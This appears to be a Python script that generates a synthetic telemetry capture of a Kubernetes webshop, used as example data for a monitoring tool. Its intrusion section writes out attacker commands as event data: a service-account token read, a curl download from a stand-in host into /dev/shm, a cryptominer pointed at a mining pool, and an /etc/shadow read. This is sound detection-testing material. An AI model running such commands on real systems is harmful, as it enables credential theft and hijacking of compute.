"""Generate `examples/webshop-intrusion.capture.jsonl` (deterministic: same bytes every run).

    python examples/make_webshop_capture.py [-o FILE]

A small web workload in namespace `shop` on two nodes, as IG v0.55 gadgets print it in
Kubernetes mode (`k8s.*` filled, `runtime.*` filled and hidden, the `proc` block, timestamps in
ns plus the formatted string, trace_exec args joined with U+00A0):

* Deployment `webshop` (ReplicaSet `webshop-6f7c9d8b5d`, one pod per node) with containers `nginx`
  (accepts :80, proxies to 127.0.0.1:8000) and `app` (gunicorn; reads its code and config,
  connects to redis and, after DNS lookups of api.stripe.com, to the payment API);
* StatefulSet `redis` (pod `redis-0`, container `redis`, accepts :6379, writes /data).

Timeline: containers start at t0; 0-15 min normal traffic (the learning period of the README's
main job is 10 min); from ~20 min an intrusion in one `app` container: an interactive shell, the
service-account token read, a download with curl into /dev/shm, chmod, a DNS lookup of a mining
pool, the miner started from the container's upper layer connecting to :3333 (repeatedly, so
deduplication shows counts) and an /etc/shadow read; normal traffic continues afterwards.
advise_seccomp delivers one syscall-set array per node per minute.
"""

from __future__ import annotations

import argparse
import datetime
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

NBSP = "\u00a0"
T0 = 1_772_445_600_000_000_000  # 2026-03-02T10:00:00Z in ns
SEC = 1_000_000_000
MIN = 60 * SEC
OUT = Path(__file__).resolve().parent / "webshop-intrusion.capture.jsonl"


@dataclass(frozen=True)
class Ctr:
    node: str
    pod: str
    name: str
    image: str
    digest: str
    owner_kind: str
    owner_name: str
    labels: str
    cid: str
    pid: int
    mntns: int
    netns: int
    ip: str
    uid: int = 0


NGINX = (
    "nginx:1.27",
    "sha256:" + "5f0574409b3add89581b96c68afe9e9c7b284651c3a974b6e8bac46bf95e6b7f",
)
APP = (
    "ghcr.io/example/webshop-app:2.3.1",
    "sha256:" + "9c1f2a7de4b3c5a6e8f9017263a4b5c6d7e8f90123456789abcdef0123456789",
)
REDIS = (
    "redis:7.2",
    "sha256:" + "e422889e156ebea83856b6ff973bfe0c86bce867d80def228044eeecf925592b",
)
WEB_LABELS = "app=webshop,pod-template-hash=6f7c9d8b5d"
REDIS_LABELS = "app=redis,apps.kubernetes.io/pod-index=0,controller-revision-hash=redis-7d9c"
REDIS_SVC = "10.96.12.40"
DNS_SVC = "10.96.0.10"
STRIPE = "54.187.216.72"
POOL = "141.94.96.144"
EVIL = "203.0.113.50"


def _containers() -> list[Ctr]:
    out = []
    for i, (node, pod, ip) in enumerate(
        [
            ("node-a", "webshop-6f7c9d8b5d-k7x2p", "10.244.1.11"),
            ("node-b", "webshop-6f7c9d8b5d-q9m4z", "10.244.2.12"),
        ]
    ):
        base = 4026532100 + 100 * i
        for j, (name, (image, digest), uid) in enumerate([("nginx", NGINX, 0), ("app", APP, 1000)]):
            out.append(
                Ctr(
                    node, pod, name, image, digest, "ReplicaSet", "webshop-6f7c9d8b5d",
                    WEB_LABELS, f"{(0xA1B2C3 + 17 * i + 5 * j):06x}" * 10 + "abcd",
                    21000 + 1000 * i + 100 * j, base + j, base + 50, ip, uid,
                )
            )  # fmt: skip
    out.append(
        Ctr(
            "node-a", "redis-0", "redis", *REDIS, "StatefulSet", "redis", REDIS_LABELS,
            "7e3f" * 16, 24000, 4026532400, 4026532450, "10.244.1.20", 999,
        )
    )  # fmt: skip
    return out


def _sorted(data: Any) -> Any:
    """Keys sorted byte-wise at every level, as `ig run -o json` prints them."""
    if isinstance(data, dict):
        return {k: _sorted(data[k]) for k in sorted(data, key=lambda k: k.encode())}
    if isinstance(data, list):
        return [_sorted(v) for v in data]
    return data


def _fmt(ts: int) -> str:
    dt = datetime.datetime.fromtimestamp(ts // SEC, tz=datetime.UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S") + f".{ts % SEC:09d}Z"


class Gen:
    def __init__(self) -> None:
        self.rng = random.Random(20260302)
        self.lines: list[tuple[int, int, dict[str, Any]]] = []
        self.n = 0

    def emit(self, ts: int, gadget: str, ds: str, node: str, data: Any) -> None:
        self.n += 1
        line = {"gadget": gadget, "datasource": ds, "node": node, "data": _sorted(data)}
        self.lines.append((ts, self.n, line))

    # -- common blocks -------------------------------------------------------------------------

    @staticmethod
    def k8s(c: Ctr) -> dict[str, Any]:
        return {
            "containerName": c.name,
            "hostnetwork": False,
            "namespace": "shop",
            "node": c.node,
            "owner": {"kind": c.owner_kind, "name": c.owner_name},
            "podLabels": c.labels,
            "podName": c.pod,
        }

    @staticmethod
    def runtime(c: Ctr) -> dict[str, Any]:
        return {
            "containerId": c.cid,
            "containerImageDigest": c.digest,
            "containerImageName": c.image,
            "containerName": c.name,
            "containerPid": c.pid,
            "containerStartedAt": T0,
            "runtimeName": "containerd",
        }

    @staticmethod
    def proc(
        c: Ctr, comm: str, pid: int, *, pcomm: str, ppid: int, uid: int | None = None
    ) -> dict[str, Any]:
        u = c.uid if uid is None else uid
        user = {0: "root", 101: "nginx", 999: "redis", 1000: "app"}.get(u, str(u))
        return {
            "comm": comm,
            "creds": {"gid": u, "group": user, "uid": u, "user": user},
            "mntns_id": c.mntns,
            "parent": {"comm": pcomm, "pid": ppid, "tid": ppid},
            "pid": pid,
            "tid": pid,
        }

    def base(self, c: Ctr, ts: int, proc: dict[str, Any]) -> dict[str, Any]:
        return {
            "k8s": self.k8s(c),
            "proc": proc,
            "runtime": self.runtime(c),
            "timestamp": _fmt(ts),
            "timestamp_raw": ts,
        }

    # -- gadgets -------------------------------------------------------------------------------

    def exec_(
        self, c: Ctr, ts: int, *, exe: str, args: list[str], pid: int, pcomm: str, ppid: int,
        cwd: str = "/", tty: bool = False, upper: bool = False, parent_exe: str = "",
        uid: int | None = None,
    ) -> None:  # fmt: skip
        comm = exe.rsplit("/", 1)[-1][:15]
        rec = self.base(c, ts, self.proc(c, comm, pid, pcomm=pcomm, ppid=ppid, uid=uid))
        rec.update(
            {
                "args": NBSP.join(args),
                "cwd": cwd,
                "dev_major": 0,
                "dev_minor": 45 if upper else 38,
                "error": "",
                "error_raw": 0,
                "exepath": exe,
                "fctime": 0,
                "file": exe,
                "file_from_rootfs": True,
                "from_rootfs": True,
                "fupper_layer": upper,
                "inode": 1_000_000 + sum(map(ord, exe)),
                "loginuid": 4294967295,
                "loginuser": "",
                "parent_exepath": parent_exe,
                "pctime": 0,
                "pupper_layer": False,
                "sessionid": 4294967295,
                "tty": 34816 if tty else 0,
                "upper_layer": upper,
                "ctime": T0 - 3600 * SEC if not upper else ts - 2 * SEC,
            }
        )
        self.emit(ts, "trace_exec", "exec", c.node, rec)

    def open_(
        self, c: Ctr, ts: int, *, comm: str, pid: int, path: str, flags: str = "O_RDONLY|O_CLOEXEC",
        flags_raw: int = 0o2000000, fd: int = 3, error: str = "", mode: str = "----------",
        pcomm: str = "", ppid: int = 1, uid: int | None = None,
    ) -> None:  # fmt: skip
        rec = self.base(c, ts, self.proc(c, comm, pid, pcomm=pcomm or comm, ppid=ppid, uid=uid))
        rec.update(
            {
                "error": error,
                "error_raw": {"": 0, "EACCES": 13, "ENOENT": 2}[error],
                "fd": 0 if error else fd,
                "flags": flags,
                "flags_raw": flags_raw,
                "fname": path,
                "fpath": path,
                "mode": mode,
                "mode_raw": 0 if mode == "----------" else 0o100644,
            }
        )
        self.emit(ts, "trace_open", "open", c.node, rec)

    @staticmethod
    def endpoint(
        addr: str, port: int, kind: str = "raw", name: str = "", ns: str = ""
    ) -> dict[str, Any]:
        return {
            "addr": addr,
            "k8s": {"kind": kind, "labels": "", "name": name, "namespace": ns, "podSelector": ""},
            "port": port,
            "proto": "TCP",
            "proto_raw": 6,
            "version": 4,
        }

    def tcp(
        self, c: Ctr, ts: int, *, comm: str, pid: int, kind: str, src: dict[str, Any],
        dst: dict[str, Any], pcomm: str = "", ppid: int = 1, uid: int | None = None,
    ) -> None:  # fmt: skip
        rec = self.base(c, ts, self.proc(c, comm, pid, pcomm=pcomm or comm, ppid=ppid, uid=uid))
        rec.update(
            {
                "accept_fd": 7 if kind == "accept" else -1,
                "dst": dst,
                "error": "",
                "error_raw": 0,
                "fd": 6,
                "netns_id": c.netns,
                "src": src,
                "type": kind,
                "type_raw": {"connect": 0, "accept": 1, "close": 2}[kind],
            }
        )
        self.emit(ts, "trace_tcp", "tracetcp", c.node, rec)

    def dns(
        self, c: Ctr, ts: int, *, comm: str, pid: int, name: str, answers: list[str],
        pcomm: str = "", ppid: int = 1, uid: int | None = None,
    ) -> None:  # fmt: skip
        qid = f"{self.rng.randrange(0x10000):04x}"
        sport = self.rng.randrange(32768, 60999)
        for is_resp in (False, True):
            t = ts + (2_400_000 if is_resp else 0)
            rec = self.base(c, t, self.proc(c, comm, pid, pcomm=pcomm or comm, ppid=ppid, uid=uid))
            me = {"addr": c.ip, "port": sport, "proto": "UDP", "proto_raw": 17, "version": 4}
            ns = {"addr": DNS_SVC, "port": 53, "proto": "UDP", "proto_raw": 17, "version": 4}
            rec.update(
                {
                    "addresses": ",".join(answers) if is_resp else "",
                    "cwd": "/app" if c.name == "app" else "/",
                    "dst": me if is_resp else ns,
                    "exepath": "",
                    "id": qid,
                    "latency_ns": "2.4ms" if is_resp else "",
                    "latency_ns_raw": 2_400_000 if is_resp else 0,
                    "name": name,
                    "nameserver": {"addr": DNS_SVC, "version": 4},
                    "netns_id": c.netns,
                    "num_answers": len(answers) if is_resp else 0,
                    "pkt_type": "HOST" if is_resp else "OUTGOING",
                    "pkt_type_raw": 0 if is_resp else 4,
                    "qr": "R" if is_resp else "Q",
                    "qr_raw": is_resp,
                    "qtype": "A",
                    "qtype_raw": 1,
                    "ra": is_resp,
                    "rcode": "Success" if is_resp else "",
                    "rcode_raw": 0,
                    "rd": True,
                    "src": ns if is_resp else me,
                    "tc": False,
                }
            )
            self.emit(t, "trace_dns", "dns", c.node, rec)

    def cap(
        self, c: Ctr, ts: int, *, comm: str, pid: int, cap: str, syscall: str, ppid: int = 1
    ) -> None:
        rec = self.base(c, ts, self.proc(c, comm, pid, pcomm=comm, ppid=ppid))
        caps = {"CAP_CHOWN": 0, "CAP_SETGID": 6, "CAP_SETUID": 7, "CAP_NET_BIND_SERVICE": 10}
        rec.update(
            {
                "audit": 1,
                "cap": cap,
                "cap_effective": "CHOWN|DAC_OVERRIDE|FOWNER|FSETID|KILL|SETGID|SETUID|SETPCAP|"
                "NET_BIND_SERVICE|NET_RAW|SYS_CHROOT|MKNOD|AUDIT_WRITE|SETFCAP",
                "cap_effective_raw": 0xA80425FB,
                "cap_raw": caps[cap],
                "capable": True,
                "current_userns": 4026531837,
                "insetid": 0,
                "kstack": "",
                "syscall": syscall,
                "syscall_raw": {
                    "SYS_BIND": 49,
                    "SYS_SETUID": 105,
                    "SYS_SETGID": 106,
                    "SYS_CHOWN": 92,
                }[syscall],
                "target_userns": 4026531837,
            }
        )
        self.emit(ts, "trace_capabilities", "capabilities", c.node, rec)


#: Syscalls (x86_64 numbers) each kind of container uses in a minute.
_BASE = [0, 1, 3, 5, 7, 9, 10, 11, 12, 13, 14, 16, 17, 20, 39, 202, 228, 230, 232, 257, 262, 281]
SECCOMP = {
    "nginx": [*_BASE, 41, 43, 44, 45, 46, 47, 49, 50, 54, 72, 233, 288],
    "app": [*_BASE, 4, 8, 21, 41, 42, 44, 45, 51, 52, 55, 56, 61, 72, 89, 102, 318],
    "redis": [*_BASE, 2, 8, 18, 41, 43, 46, 47, 49, 50, 54, 74, 76, 82, 288],
}
INTRUSION_SYSCALLS = [
    57,
    59,
    61,
    101,
    319,
    90,
    33,
]  # fork, execve, wait4, ptrace, memfd_create, chmod, dup2


def generate() -> Iterator[dict[str, Any]]:
    g = Gen()
    ctrs = _containers()
    nginx = {c.pod: c for c in ctrs if c.name == "nginx"}
    app = {c.pod: c for c in ctrs if c.name == "app"}
    redis = next(c for c in ctrs if c.name == "redis")
    victim = app["webshop-6f7c9d8b5d-k7x2p"]

    # -- start-up (t0 .. t0+5 s) --------------------------------------------------------------
    for _pod, c in nginx.items():
        t = T0 + SEC
        g.exec_(
            c,
            t,
            exe="/docker-entrypoint.sh",
            args=["/docker-entrypoint.sh", "nginx", "-g", "daemon off;"],
            pid=1,
            pcomm="containerd-shim",
            ppid=c.pid - 20,
            parent_exe="/usr/bin/containerd-shim-runc-v2",
        )
        g.exec_(
            c,
            t + 200_000_000,
            exe="/usr/sbin/nginx",
            args=["nginx", "-g", "daemon off;"],
            pid=1,
            pcomm="docker-entrypoi",
            ppid=c.pid - 20,
            parent_exe="/bin/dash",
        )
        for i, path in enumerate(
            [
                "/etc/nginx/nginx.conf",
                "/etc/nginx/conf.d/default.conf",
                "/etc/passwd",
                "/etc/group",
                "/var/log/nginx/access.log",
            ]
        ):
            flags = (
                ("O_WRONLY|O_CREAT|O_APPEND", 0o2101)
                if "log" in path
                else ("O_RDONLY|O_CLOEXEC", 0o2000000)
            )
            g.open_(
                c,
                t + 300_000_000 + i * 1_000_000,
                comm="nginx",
                pid=1,
                path=path,
                flags=flags[0],
                flags_raw=flags[1],
                fd=4 + i,
                ppid=c.pid - 20,
                pcomm="containerd-shim",
            )
        g.cap(
            c, t + 310_000_000, comm="nginx", pid=1, cap="CAP_NET_BIND_SERVICE", syscall="SYS_BIND"
        )
        g.cap(c, t + 320_000_000, comm="nginx", pid=29, cap="CAP_SETGID", syscall="SYS_SETGID")
        g.cap(c, t + 321_000_000, comm="nginx", pid=29, cap="CAP_SETUID", syscall="SYS_SETUID")
        g.cap(c, t + 322_000_000, comm="nginx", pid=1, cap="CAP_CHOWN", syscall="SYS_CHOWN")
    for _pod, c in app.items():
        t = T0 + 2 * SEC
        g.exec_(
            c,
            t,
            exe="/usr/local/bin/python3.12",
            args=[
                "/usr/local/bin/python",
                "/usr/local/bin/gunicorn",
                "shop.wsgi:app",
                "-b",
                "0.0.0.0:8000",
                "-w",
                "2",
            ],
            pid=1,
            pcomm="containerd-shim",
            ppid=c.pid - 20,
            cwd="/app",
            parent_exe="/usr/bin/containerd-shim-runc-v2",
        )
        for w, wpid in enumerate((7, 8)):
            g.exec_(
                c,
                t + (w + 1) * 300_000_000,
                exe="/usr/local/bin/python3.12",
                args=[
                    "/usr/local/bin/python",
                    "-c",
                    "from multiprocessing.resource_tracker import main;main(5)",
                ]
                if w
                else ["/usr/local/bin/python", "-m", "gunicorn.workers.sync"],
                pid=wpid,
                pcomm="gunicorn",
                ppid=1,
                cwd="/app",
                parent_exe="/usr/local/bin/python3.12",
            )
        files = [
            "/app/shop/wsgi.py",
            "/app/shop/views.py",
            "/app/config/settings.yaml",
            "/etc/hosts",
            "/etc/resolv.conf",
            "/usr/local/lib/python3.12/site-packages/gunicorn/__init__.py",
            "/usr/local/lib/python3.12/site-packages/redis/client.py",
            "/usr/local/lib/python3.12/site-packages/stripe/__init__.py",
            "/usr/lib/x86_64-linux-gnu/libssl.so.3",
        ]
        for i, path in enumerate(files):
            g.open_(
                c,
                t + SEC + i * 5_000_000,
                comm="gunicorn",
                pid=1,
                path=path,
                fd=3 + i % 4,
                pcomm="containerd-shim",
                ppid=c.pid - 20,
            )
        g.tcp(
            c,
            t + 2 * SEC,
            comm="gunicorn",
            pid=7,
            kind="connect",
            src=g.endpoint(c.ip, 40100),
            dst=g.endpoint(REDIS_SVC, 6379, "svc", "redis", "shop"),
            pcomm="gunicorn",
        )
        g.tcp(
            redis,
            t + 2 * SEC + 300_000,
            comm="redis-server",
            pid=1,
            kind="accept",
            src=g.endpoint(redis.ip, 6379, "pod", "redis-0", "shop"),
            dst=g.endpoint(c.ip, 40100, "pod", c.pod, "shop"),
        )
    t = T0 + SEC
    g.exec_(
        redis,
        t,
        exe="/usr/local/bin/docker-entrypoint.sh",
        args=["docker-entrypoint.sh", "redis-server", "--appendonly", "yes"],
        pid=1,
        pcomm="containerd-shim",
        ppid=redis.pid - 20,
        cwd="/data",
        uid=0,
    )
    g.exec_(
        redis,
        t + 100_000_000,
        exe="/usr/local/bin/redis-server",
        args=["redis-server", "*:6379"],
        pid=1,
        pcomm="docker-entrypoi",
        ppid=redis.pid - 20,
        cwd="/data",
    )
    g.cap(
        redis, t + 50_000_000, comm="docker-entrypoi", pid=1, cap="CAP_SETUID", syscall="SYS_SETUID"
    )
    g.cap(
        redis, t + 51_000_000, comm="docker-entrypoi", pid=1, cap="CAP_SETGID", syscall="SYS_SETGID"
    )
    for i, path in enumerate(
        [
            "/data/dump.rdb",
            "/data/appendonlydir/appendonly.aof.1.base.rdb",
            "/data/appendonlydir/appendonly.aof.manifest",
            "/etc/localtime",
        ]
    ):
        g.open_(
            redis,
            t + 200_000_000 + i * 1_000_000,
            comm="redis-server",
            pid=1,
            path=path,
            fd=8 + i,
            pcomm="containerd-shim",
            ppid=redis.pid - 20,
        )

    # -- steady traffic ---------------------------------------------------------------------
    def traffic(start: int, end: int) -> None:
        for pod in sorted(nginx):
            ng, ap = nginx[pod], app[pod]
            ts = start + g.rng.randrange(SEC)
            while ts < end:
                port = g.rng.randrange(32768, 60999)
                g.tcp(
                    ng,
                    ts,
                    comm="nginx",
                    pid=29,
                    kind="accept",
                    src=g.endpoint(ng.ip, 80, "pod", ng.pod, "shop"),
                    dst=g.endpoint(
                        "10.244.0.5",
                        port,
                        "pod",
                        "ingress-nginx-controller-5c8d66c76d-x2x9t",
                        "ingress-nginx",
                    ),
                    pcomm="nginx",
                    uid=101,
                )
                lport = g.rng.randrange(32768, 60999)
                g.tcp(
                    ng,
                    ts + 400_000,
                    comm="nginx",
                    pid=29,
                    kind="connect",
                    src=g.endpoint("127.0.0.1", lport),
                    dst=g.endpoint("127.0.0.1", 8000),
                    pcomm="nginx",
                    uid=101,
                )
                g.tcp(
                    ap,
                    ts + 600_000,
                    comm="gunicorn",
                    pid=7,
                    kind="accept",
                    src=g.endpoint("127.0.0.1", 8000),
                    dst=g.endpoint("127.0.0.1", lport),
                    pcomm="gunicorn",
                )
                page = g.rng.choice(["index", "product", "cart", "checkout"])
                g.open_(
                    ap,
                    ts + 900_000,
                    comm="gunicorn",
                    pid=7,
                    path=f"/app/shop/templates/{page}.html",
                    pcomm="gunicorn",
                    ppid=1,
                )
                rport = g.rng.randrange(32768, 60999)
                g.tcp(
                    ap,
                    ts + 1_200_000,
                    comm="gunicorn",
                    pid=7,
                    kind="connect",
                    src=g.endpoint(ap.ip, rport),
                    dst=g.endpoint(REDIS_SVC, 6379, "svc", "redis", "shop"),
                    pcomm="gunicorn",
                )
                g.tcp(
                    redis,
                    ts + 1_500_000,
                    comm="redis-server",
                    pid=1,
                    kind="accept",
                    src=g.endpoint(redis.ip, 6379, "pod", "redis-0", "shop"),
                    dst=g.endpoint(ap.ip, rport, "pod", ap.pod, "shop"),
                )
                if page == "checkout":
                    g.dns(
                        ap,
                        ts + 2_000_000,
                        comm="gunicorn",
                        pid=7,
                        name="api.stripe.com.",
                        answers=[STRIPE, "54.187.174.169"],
                        pcomm="gunicorn",
                    )
                    g.tcp(
                        ap,
                        ts + 6_000_000,
                        comm="gunicorn",
                        pid=7,
                        kind="connect",
                        src=g.endpoint(ap.ip, g.rng.randrange(32768, 60999)),
                        dst=g.endpoint(STRIPE, 443),
                        pcomm="gunicorn",
                    )
                ts += g.rng.randrange(6 * SEC, 14 * SEC)
        ts = start + 30 * SEC
        while ts < end:
            g.open_(
                redis,
                ts,
                comm="redis-server",
                pid=1,
                path="/data/appendonlydir/appendonly.aof.1.incr.aof",
                flags="O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC",
                flags_raw=0o2002101,
                fd=12,
                pcomm="containerd-shim",
                ppid=redis.pid - 20,
            )
            ts += MIN

    traffic(T0 + 5 * SEC, T0 + 15 * MIN)
    traffic(T0 + 15 * MIN, T0 + 20 * MIN)

    # -- the intrusion (t0 + 20 min) in one app container --------------------------------------
    t = T0 + 20 * MIN + 7 * SEC
    v = victim
    g.exec_(
        v,
        t,
        exe="/bin/dash",
        args=["/bin/sh"],
        pid=4242,
        pcomm="gunicorn",
        ppid=7,
        cwd="/app",
        tty=True,
        parent_exe="/usr/local/bin/python3.12",
    )
    g.exec_(
        v,
        t + 9 * SEC,
        exe="/bin/cat",
        args=["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        pid=4250,
        pcomm="sh",
        ppid=4242,
        cwd="/app",
        tty=True,
        parent_exe="/bin/dash",
    )
    g.open_(
        v,
        t + 9 * SEC + 400_000,
        comm="cat",
        pid=4250,
        path="/var/run/secrets/kubernetes.io/serviceaccount/token",
        fd=3,
        pcomm="sh",
        ppid=4242,
    )
    g.exec_(
        v,
        t + 31 * SEC,
        exe="/usr/bin/curl",
        args=["curl", "-s", f"http://{EVIL}/x", "-o", "/dev/shm/kworker"],
        pid=4261,
        pcomm="sh",
        ppid=4242,
        cwd="/app",
        tty=True,
        parent_exe="/bin/dash",
    )
    g.open_(
        v,
        t + 31 * SEC + 200_000,
        comm="curl",
        pid=4261,
        path="/etc/resolv.conf",
        pcomm="sh",
        ppid=4242,
    )
    g.tcp(
        v,
        t + 31 * SEC + 3_000_000,
        comm="curl",
        pid=4261,
        kind="connect",
        src=g.endpoint(v.ip, 51515),
        dst=g.endpoint(EVIL, 80),
        pcomm="sh",
        ppid=4242,
    )
    g.open_(
        v,
        t + 31 * SEC + 9_000_000,
        comm="curl",
        pid=4261,
        path="/dev/shm/kworker",
        flags="O_WRONLY|O_CREAT|O_TRUNC",
        flags_raw=0o1101,
        fd=4,
        mode="-rw-r--r--",
        pcomm="sh",
        ppid=4242,
    )
    g.exec_(
        v,
        t + 40 * SEC,
        exe="/bin/chmod",
        args=["chmod", "+x", "/dev/shm/kworker"],
        pid=4270,
        pcomm="sh",
        ppid=4242,
        cwd="/app",
        tty=True,
        parent_exe="/bin/dash",
    )
    miner = [
        "/dev/shm/kworker",
        "-o",
        "pool.supportxmr.com:3333",
        "-u",
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "-k",
        "--donate-level=1",
    ]
    g.exec_(
        v,
        t + 48 * SEC,
        exe="/dev/shm/kworker",
        args=miner,
        pid=4280,
        pcomm="sh",
        ppid=4242,
        cwd="/app",
        tty=True,
        upper=True,
        parent_exe="/bin/dash",
    )
    for k in range(36):  # the miner keeps resolving and reconnecting: identical events
        ts = t + 49 * SEC + k * 5 * SEC
        g.dns(
            v,
            ts,
            comm="kworker",
            pid=4280,
            name="pool.supportxmr.com.",
            answers=[POOL],
            pcomm="sh",
            ppid=4242,
        )
        g.tcp(
            v,
            ts + 30_000_000,
            comm="kworker",
            pid=4280,
            kind="connect",
            src=g.endpoint(v.ip, 40000 + k),
            dst=g.endpoint(POOL, 3333),
            pcomm="sh",
            ppid=4242,
        )
    g.exec_(
        v,
        t + 70 * SEC,
        exe="/bin/cat",
        args=["cat", "/etc/shadow"],
        pid=4290,
        pcomm="sh",
        ppid=4242,
        cwd="/app",
        tty=True,
        parent_exe="/bin/dash",
    )
    g.open_(
        v,
        t + 70 * SEC + 300_000,
        comm="cat",
        pid=4290,
        path="/etc/shadow",
        error="EACCES",
        pcomm="sh",
        ppid=4242,
    )

    traffic(T0 + 20 * MIN, T0 + 25 * MIN)

    # -- advise_seccomp: one array per node per minute ---------------------------------------
    for minute in range(1, 26):
        ts = T0 + minute * MIN
        for node in ("node-a", "node-b"):
            elements = []
            for c in sorted((c for c in ctrs if c.node == node), key=lambda c: c.mntns):
                used = set(SECCOMP[c.name])
                if c == victim and minute >= 21:
                    used |= set(INTRUSION_SYSCALLS)
                elements.append(
                    {
                        "k8s": g.k8s(c),
                        "mntns_id_raw": c.mntns,
                        "runtime": g.runtime(c),
                        "syscalls": [1 if i in used else 0 for i in range(501)],
                    }
                )
            g.emit(ts, "advise_seccomp", "syscalls", node, elements)

    for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1])):
        yield line


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("-o", "--output", type=Path, default=OUT)
    args = parser.parse_args()
    header = {
        "gadgetwatchCapture": 1,
        "generator": "examples/make_webshop_capture.py",
        "serverVersion": "0.55.1",
        "startedAt": _fmt(T0),
        "description": "webshop in namespace shop on node-a/node-b; intrusion in "
        "webshop-6f7c9d8b5d-k7x2p/app at 20 min",
    }
    with args.output.open("w", encoding="utf-8") as out:
        out.write(json.dumps(header, separators=(",", ":")) + "\n")
        for line in generate():
            out.write(json.dumps(line, separators=(",", ":"), ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
